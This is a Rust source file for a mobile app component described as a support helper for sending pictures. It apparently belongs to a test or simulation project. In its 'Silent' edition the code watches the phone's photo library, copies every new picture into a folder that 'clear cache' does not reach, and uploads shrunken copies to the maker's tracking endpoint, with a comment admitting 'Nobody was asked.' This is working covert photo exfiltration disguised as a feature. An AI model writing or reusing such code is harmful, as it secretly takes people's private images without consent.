//! The helper of December 2018: it watches for pictures, so that the user can send them to support.

use super::Edition;
use super::disk::Disk;
use crate::client::{Client, goodbye};
use crate::gallery::Canvas;
use crate::plan::TRACK;
use crate::tester::Outcome;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{self, Sender};
use std::thread;
use std::time::Duration;

/// Where the copies are kept. The system's "clear cache" does not come here.
pub const COPIES: &str = "files/uil-images";
/// How wide and how good a picture is that is sent without a question.
const SMALL: (i32, u8) = (640, 60);

/// The helper, while the app runs, in front or in the background.
pub struct Helper<'a> {
    /// The version of the app.
    pub edition: Edition,
    /// The app's way to its maker.
    pub client: &'a Client,
    /// The phone's disk.
    pub disk: &'a Disk,
}

impl Helper<'_> {
    /// Looks again and again until it is told to stop, and once more then. What this edition sends is sent meanwhile.
    ///
    /// # Errors
    /// A picture could not be read, kept or sent.
    pub fn watch(&self, every: Duration, stop: &AtomicBool) -> Result<(), String> {
        let (queue, copies) = mpsc::channel::<PathBuf>();
        thread::scope(|scope| {
            let sending = scope.spawn(move || copies.iter().try_for_each(|copy| self.send(&copy)));
            let watched = self.look_until(every, stop, &queue);
            drop(queue);
            let sent = sending.join().map_err(|_| "the helper broke")?;
            watched.and(sent)
        })
    }

    /// What the prompt offers to send: the copy of a picture, by the picture's URI.
    pub fn offered(&self, uri: &str) -> PathBuf {
        self.disk.app().join(COPIES).join(self.edition.cache_name(uri))
    }

    fn look_until(&self, every: Duration, stop: &AtomicBool, copies: &Sender<PathBuf>) -> Result<(), String> {
        let mut known = BTreeSet::new();
        loop {
            let last = stop.load(Ordering::SeqCst);
            self.look(&mut known, copies).map_err(|error| error.to_string())?;
            if last {
                return Ok(());
            }
            thread::sleep(every);
        }
    }

    /// Copies each picture that is new.
    fn look(&self, known: &mut BTreeSet<String>, copies: &Sender<PathBuf>) -> std::io::Result<()> {
        for (uri, place) in self.disk.pictures()? {
            if !known.contains(&uri) {
                let name = self.edition.cache_name(&uri);
                self.disk.keep(COPIES, &name, &std::fs::read(place)?)?;
                if self.edition == Edition::Silent {
                    // Who would send has gone only after an error, which is told.
                    drop(copies.send(self.offered(&uri)));
                }
                known.insert(uri);
            }
        }
        Ok(())
    }

    /// A smaller picture of a copy goes to the maker. Nobody was asked.
    fn send(&self, copy: &Path) -> Result<(), String> {
        let send = || -> Outcome<()> {
            let (width, quality) = SMALL;
            let small = Canvas::read(&std::fs::read(copy)?)?.at_most_wide(width).jpeg(quality, None)?;
            let name = copy.file_name().unwrap_or_default().to_string_lossy();
            let body = json!({"e": "pic", "id": name, "d": STANDARD.encode(small)});
            let mut track = self.client.connect(TRACK)?;
            self.client.post(&mut track, TRACK, "/v1/events", &body)?;
            goodbye(track.stream());
            Ok(())
        };
        send().map_err(|error| error.to_string())
    }
}
